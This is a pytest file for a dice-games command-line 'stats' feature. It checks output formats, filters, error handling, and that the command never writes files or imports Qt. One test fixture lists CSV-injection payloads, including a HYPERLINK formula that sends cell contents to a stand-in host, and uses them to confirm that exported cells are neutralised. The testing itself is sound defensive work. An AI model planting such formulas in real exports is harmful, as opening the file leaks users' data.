"""`dicegames stats`: the figures of the files given or of the user's history, as text, JSON
and CSV; filters; clear errors; it never writes a file and never imports Qt."""
from __future__ import annotations

import contextlib
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from dicegames.cli import main
from dicegames.engine import replay
from dicegames.persistence import paths
from dicegames.persistence.history import History
from dicegames.persistence.profiles import ProfileBook

FIXTURES = sorted(str(p) for p in (Path(__file__).parent / "fixtures").glob("*.json"))


def stats(*args: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(["stats", *args])
        except SystemExit as e:
            code = int(e.code or 0)
    return code, out.getvalue(), err.getvalue()


def players(doc):
    return {p["name"]: p for p in doc["players"]}


def test_json_of_the_files_given():
    code, out, _ = stats(*FIXTURES, "--json")
    assert code == 0
    doc = json.loads(out)
    assert doc["games"] == 6 and doc["filter"]["counting_only"] is True
    anya, boris = players(doc)["Anya"], players(doc)["Boris"]
    assert anya["profile"] == "pAnna01"
    assert (anya["games"], anya["wins"], anya["win_rate"]) == (6, 5, 0.8333)
    assert anya["mean_points"] is None and anya["best_points"] is None
    assert (anya["zonks"], anya["hot_dice"], anya["zonk_rate"]) == (1, 1, 0.3333)
    assert anya["by_game"]["zdorovo"] == {
        "games": 2, "wins": 1, "win_rate": 0.5, "mean_points": 169.5, "best_points": 197,
        "zdorovo": 2, "straights": 3}
    assert boris["by_game"]["school"]["school_result_mean"] == -120
    assert boris["by_game"]["school"]["crossed"] == 9
    assert boris["by_game"]["zanzibar"]["nenettes"] == 1
    assert boris["by_game"]["zanzibar"]["chips_taken"] == 2
    assert anya["by_game"]["zanzibar"]["hands_421"] == 1
    assert (anya["streak"], anya["best_streak"], boris["streak"]) == (0, 5, 1)
    assert doc["head_to_head"] == [{"players": ["Anya", "Boris"], "games": 6, "ahead": [5, 1],
                                    "level": 0}]


def test_one_game_one_player_and_the_casual_games():
    code, out, _ = stats(*FIXTURES, "--json", "--game", "zdorovo", "--player", "boris")
    doc = json.loads(out)
    assert code == 0 and doc["games"] == 2 and list(players(doc)) == ["Boris"]
    boris = players(doc)["Boris"]
    assert (boris["games"], boris["wins"], boris["mean_points"], boris["best_points"]) == \
        (2, 1, 169.5, 197)
    assert json.loads(stats(*FIXTURES, "--json", "--game", "zdorovo", "--casual")[1])[
        "games"] == 3
    assert json.loads(stats(*FIXTURES, "--json", "--since", "2026-01-16")[1])["games"] == 3


def test_text_and_csv():
    code, out, _ = stats(*FIXTURES)
    assert code == 0 and "6 finished game(s)" in out
    assert "zdorovo: 2 game(s)" in out and "Anya 5 : 1 Boris" in out
    code, out, _ = stats(*FIXTURES, "--csv")
    assert code == 0 and out.splitlines()[0].startswith("player,profile,game,games,wins")


HOSTILE = ("=HYPERLINK(\"http://x.example/?\"&A1,\"Open\")", "+SUM(1,2)", "@cmd",
           "-2+3")


def hostile_school(tmp_path: Path) -> Path:
    """The School fixture (Boris's school result is negative) with names a spreadsheet would
    run as formulas."""
    doc = json.loads((Path(__file__).parent / "fixtures" / "school.json").read_text())
    doc["record"]["players"][0]["name"] = HOSTILE[0]
    doc["record"]["players"][1]["name"] = HOSTILE[3]
    path = tmp_path / "school.json"
    path.write_text(json.dumps(doc), encoding="utf-8")
    return path


def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(tmp_path):
    """OWASP's CSV injection rule: a text cell starting with = + - @, a tab or a carriage
    return gets a leading single quote; negative figures are written as numbers."""
    import csv
    code, out, _ = stats(str(hostile_school(tmp_path)), "--csv")
    assert code == 0
    rows = {r["player"]: r for r in csv.DictReader(io.StringIO(out))}
    assert set(rows) == {"'" + HOSTILE[0], "'" + HOSTILE[3]}
    boris = rows["'-2+3"]
    assert boris["school_result_mean"] == "-120" and boris["mean_points"].startswith("-")
    assert all(v[:1] not in ("=", "+", "@", "\t", "\r") and (v[:1] != "-" or _number(v))
               for r in rows.values() for v in r.values())


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_neutralises_every_leading_character_owasp_names():
    from dicegames.stats.aggregate import GameStats, PlayerStats, Streaks, to_csv
    names = (*HOSTILE, "\tTAB", "\rCR", "Anna", "'quoted", "- dash")
    stats_ = [PlayerStats(f"k{i}", n, "", GameStats("zonk", 1, 0, -350, -350, {}), {},
                          Streaks()) for i, n in enumerate(names)]
    import csv
    rows = list(csv.reader(io.StringIO(to_csv(stats_))))[1:]
    assert [r[0] for r in rows] == ["'" + n for n in HOSTILE] + ["'\tTAB", "'\rCR", "Anna",
                                                                 "'quoted", "'- dash"]
    assert all(r[6] == "-350" and r[7] == "-350" for r in rows)


@pytest.mark.parametrize("args,needle", [
    (("--game", "chess"), "unknown game"),
    (("--player", "Nobody"), "no player named"),
    (("--since", "last week"), "YYYY-MM-DD"),
])
def test_bad_input_is_one_line_and_exit_2(args, needle):
    code, out, err = stats(*FIXTURES, *args)
    assert code == 2 and out == "" and needle in err and len(err.strip().splitlines()) == 1


def test_a_file_that_is_not_a_game_says_so(tmp_path):
    bad = tmp_path / "notes.json"
    bad.write_text('{"hello": 1}')
    code, _, err = stats(str(bad))
    assert code == 1 and "not a game record" in err
    code, _, err = stats(str(tmp_path / "missing.json"))
    assert code == 1 and "cannot read" in err
    code, _, err = stats(str(tmp_path))
    assert code == 1 and "not a regular file" in err


def test_an_unfinished_game_is_noted_not_counted(tmp_path):
    from tests.persistence.helpers import zdorovo_record
    path = tmp_path / "half.json"
    path.write_text(json.dumps(zdorovo_record(6).to_json()))
    code, out, err = stats(str(path), "--json")
    assert code == 0 and json.loads(out)["games"] == 0 and "not finished" in err


def test_the_users_history_with_renamed_household_players():
    from tests.persistence.helpers import finished_zdorovo_record
    book = ProfileBook()
    anna, _ = book.add("Anna")
    r = finished_zdorovo_record()
    from dataclasses import replace
    r = replace(r, players=(replace(r.players[0], profile=anna.id),))
    rp = replay(r)
    History().add(r, rp.game.outcome(rp.state))
    book.update(replace(anna, name="Anna Petrova"))
    before = sorted(p.name for p in paths.data_dir().iterdir())
    code, out, _ = stats("--json")
    doc = json.loads(out)
    assert code == 0 and doc["games"] == 1 and list(players(doc)) == ["Anna Petrova"]
    assert sorted(p.name for p in paths.data_dir().iterdir()) == before    # nothing written


def test_no_history_no_games():
    code, out, _ = stats("--json")
    assert code == 0 and json.loads(out)["games"] == 0 and json.loads(out)["players"] == []


def test_the_command_line_never_imports_qt():
    code = ("import sys, runpy; sys.argv = ['dicegames', 'stats', '--json', *sys.argv[1:]]\n"
            "try:\n    runpy.run_module('dicegames', run_name='__main__')\n"
            "except SystemExit: pass\n"
            "bad = [m for m in ('PySide6', 'pyqtgraph', 'numpy') if m in sys.modules]\n"
            "print('IMPORTED', bad)")
    out = subprocess.run([sys.executable, "-c", code, *FIXTURES], capture_output=True, text=True,
                         timeout=60, env=dict(os.environ))
    assert "IMPORTED []" in out.stdout, out.stdout + out.stderr
